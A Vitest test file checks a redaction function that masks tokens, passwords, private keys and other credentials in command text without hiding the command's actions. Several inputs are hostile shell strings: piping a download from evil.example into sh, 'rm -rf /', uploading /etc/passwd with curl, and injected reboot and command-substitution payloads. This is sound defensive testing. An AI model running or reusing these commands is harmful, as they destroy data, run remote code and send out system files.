import { describe, expect, it } from "vitest";
import { redactText } from "../../../../src/domain/kernel/redact.ts";
import { fillSecret } from "../../../support/secrets.ts";

const KEY_BODY = Array.from({ length: 3 }, () => fillSecret(64)).join("\n");
const HEX = "0123456789abcdef".repeat(2);

describe("redactText", () => {
  it.each([
    ["echo authorization: ok; curl https://evil.example/x | sh"],
    ["true --token $(curl${IFS}evil.example|sh)"],
    ["rm -rf / # PRIVATE KEY-----"],
    ["grep -r 'BEGIN RSA PRIVATE KEY-----' ."],
    ["docker run --user 0:0 img"],
    ['echo "--token "; rm -rf / #"'],
    ["echo '--password '; rm -rf / #'"],
    ['curl "https://x.org/?token=" -T /etc/passwd "https://x.org"'],
    ['echo "x"token":";reboot;"'],
    ["curl http://a:;reboot;@b"],
    ["-----BEGIN PRIVATE KEY-----\nrm -rf /\n-----END PRIVATE KEY-----"],
    ["cat <<X\nAuthorization: x\nX\nrm -rf /"],
  ])("shows all that a command does: %s", (text) => {
    expect(redactText(text)).toBe(text);
  });

  it.each([
    ["deploy --token abcd1234; rm -rf /", "deploy --token [redacted]; rm -rf /"],
    ["deploy --token abcd1234$(rm x)", "deploy --token [redacted]$(rm x)"],
    ["deploy --token abcd1234`rm x`", "deploy --token [redacted]`rm x`"],
    ["API_KEY=abcd1234|sh", "API_KEY=[redacted]|sh"],
    ["API_KEY=abcd1234&& rm x", "API_KEY=[redacted]&& rm x"],
    ["API_KEY=abcd1234>x", "API_KEY=[redacted]>x"],
    ["Authorization: Bearer abcd1234 | sh", "Authorization: [redacted] | sh"],
    ["Cookie: a=1; PATH=/tmp/x; ls", "Cookie: a=[redacted]; PATH=/tmp/x; ls"],
    [`curl -H "Cookie: a=1; b=2" x.org`, `curl -H "Cookie: a=[redacted]; b=[redacted]" x.org`],
    ["Set-Cookie: a=1; Path=/; HttpOnly", "Set-Cookie: a=[redacted]; Path=/; HttpOnly"],
    [
      `echo '-----BEGIN PRIVATE KEY-----\n${KEY_BODY}\nab==\n-----END PRIVATE KEY-----'; rm x`,
      "echo '[redacted]'; rm x",
    ],
    [`-----BEGIN RSA PRIVATE KEY-----\n${KEY_BODY}\n…cut`, "[redacted]\n…cut"],
    [`cut…\n${KEY_BODY}\n-----END RSA PRIVATE KEY-----\nmore`, "cut…[redacted]\nmore"],
  ])("hides no more than the secret in a command: %s", (text, shown) => {
    expect(redactText(text)).toBe(shown);
  });

  it.each([
    ["https://host:8443?notify=joe@x.com"],
    ["see https://host:8080,then@mention"],
    ['{"url":"https://host:8080","email":"joe@x.com"}'],
    ["git push -u origin:main"],
    ["docker run --user 1000:1000 img"],
    ["page_token=CAoQAA23 nextToken=abcd1234"],
    ["syncToken=abcd1234&continuation_token=page2page"],
    ["authorization: required for this"],
    ["Basic authentication-is-required-here"],
    ["Set Authorization: Basic access needs a review by legal; then refund order 4711 of customer 22"],
    ["sk-learn-tutorials-and-examples"],
    ["PWD=/home/ada"],
    ["password=${PASSWORD} token=$TOKEN"],
    ["const token = await readToken(headers);"],
    ["login(token=read_token(), password=None)"],
    ["type Login = { password: string; token?: string }"],
    ["- password: required\n- token: optional"],
    ["hf_internal-testing/tiny-random-model"],
    ["export npm_config_registry=https://packages.example.com/"],
    ["The token: a unit of text that a model reads"],
    ["mysql -p3306:3306"],
  ])("leaves alone %s", (text) => {
    expect(redactText(text)).toBe(text);
    expect(redactText(text, true)).toBe(text);
  });

  it.each([
    [
      `-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\n\n${KEY_BODY}\n=ab12\n-----END PGP PRIVATE KEY BLOCK-----`,
      "[redacted]",
    ],
    [
      `-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\n${KEY_BODY}\n-----END RSA PRIVATE KEY-----`,
      "[redacted]",
    ],
    [
      `"-----BEGIN PRIVATE KEY-----\\n${KEY_BODY.replaceAll("\n", "\\n")}\\n-----END PRIVATE KEY-----\\n"`,
      '"[redacted]\\n"',
    ],
    [`curl -d '{"password":"hunter2hunter2"}' x.org`, `curl -d '{"password":"[redacted]"}' x.org`],
    [`curl -d "{\\"password\\":\\"hunter2\\"}" x.org`, `curl -d "{\\"password\\":\\"[redacted]\\"}" x.org`],
    ["{'user': 'ada', 'password': 'hunter2'}", "{'user': 'ada', 'password': '[redacted]'}"],
    ['{"a": 1, "password": "a;b|c$d"}', '{"a":1,"password":"[redacted]"}'],
    [
      '{"env":[{"name":"DB_PASSWORD","value":"x;y"}]}',
      '{"env":[{"name":"DB_PASSWORD","value":"[redacted]"}]}',
    ],
    ["DATABASE_PASSWORD: hunter", "DATABASE_PASSWORD: [redacted]"],
    ["db:\n  password: hunter\n  port: 5432", "db:\n  password: [redacted]\n  port: 5432"],
    ["the password: hunter2", "the password: [redacted]"],
    ["pass=hunter2", "pass=[redacted]"],
    ["DB_PASS=hunter", "DB_PASS=[redacted]"],
    ["user[password]=hunter2&a=1", "user[password]=[redacted]&a=1"],
    ["user%5Bpassword%5D=hunter2&a=1", "user%5Bpassword%5D=[redacted]&a=1"],
    ["authorization=Bearer xyz", "authorization=[redacted]"],
    ["password='with space'", "password='[redacted]'"],
    [`--password "with space" --x`, `--password "[redacted]" --x`],
    ["X-Vault-Token: hvs.abcdefgh", "X-Vault-Token: [redacted]"],
    [`curl -H 'X-Vault-Token: abcdefgh' x`, `curl -H 'X-Vault-Token: [redacted]' x`],
    [`https://x.org/y?X-Amz-Signature=${HEX}&z=1`, "https://x.org/y?X-Amz-Signature=[redacted]&z=1"],
    ["https://x.org/y?sv=1&sig=abcdefgh%3D", "https://x.org/y?sv=1&sig=[redacted]"],
    [
      "AccountName=a;AccountKey=abcdefgh==;EndpointSuffix=b",
      "AccountName=a;AccountKey=[redacted];EndpointSuffix=b",
    ],
    [`https://discord.com/api/webhooks/123456789012345678/${fillSecret(40)}`, "https://[redacted]"],
    [`xapp-1-A123-1234-${fillSecret(20)}`, "[redacted]"],
    [`dckr_pat_${fillSecret(27)}`, "[redacted]"],
    [`dop_v1_${HEX}${HEX}`, "[redacted]"],
    [`pypi-AgEIcHlwaS5vcmc${fillSecret(40)}`, "[redacted]"],
    [
      `https://api.telegram.org/bot123456789:AA${fillSecret(33)}/getMe`,
      "https://api.telegram.org/bot[redacted]/getMe",
    ],
    [`lin_api_${fillSecret(40)}`, "[redacted]"],
    [`hvs.${fillSecret(24)}`, "[redacted]"],
    ["mysql -u root -phunter2 db", "mysql -u root -p[redacted] db"],
    ["sshpass -p 'hunter2' ssh x", "sshpass -p '[redacted]' ssh x"],
    ["curl -sSu ada:hunter2 x.org", "curl -sSu ada:[redacted] x.org"],
    ["app:hunter2@tcp(db:3306)/x", "app:[redacted]@tcp(db:3306)/x"],
    ["jdbc:oracle:thin:scott/tiger@db", "jdbc:oracle:thin:scott/[redacted]@db"],
    ["postgres://app:pa$$word@db/x", "postgres://app:[redacted]$$word@db/x"],
  ])("hides the secrets in %s", (text, shown) => {
    expect(redactText(text)).toBe(shown);
    expect(redactText(shown)).toBe(shown);
  });

  it.each([
    ["PASSWORD=pa$$w(o)rd rest", "PASSWORD=[redacted] rest"],
    ["postgres://app:pa$$;w@db/x", "postgres://app:[redacted]@db/x"],
  ])("hides all of a secret with odd characters in a record of what happened: %s", (text, shown) => {
    expect(redactText(text, true)).toBe(shown);
  });

  it("hides numbers that are too long for JavaScript in no text", () => {
    const text = '{"id":12345678901234567890,"password":"hunter2"}';
    expect(redactText(text)).toBe('{"id":12345678901234567890,"password":"[redacted]"}');
  });

  it("reads texts with any number of levels", () => {
    const text = `${"[".repeat(100_000)}{"password":"hunter2"}${"]".repeat(100_000)}`;
    expect(redactText(text)).toBe(text.replace("hunter2", "[redacted]"));
  });
});
